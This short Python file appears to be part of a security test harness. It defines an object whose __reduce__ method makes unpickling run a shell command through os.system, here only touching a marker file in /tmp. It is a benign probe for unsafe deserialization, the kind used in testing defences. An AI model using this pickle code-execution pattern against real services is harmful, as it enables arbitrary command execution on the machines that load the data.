# category: harness
# attack: an object that runs code where it is unpickled
# kind: call
import os
class Run:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{mark}-reduced",)
    __getstate__ = __reduce__
def attack(info):
    global mark
    mark = info["mark"]
    return Run()
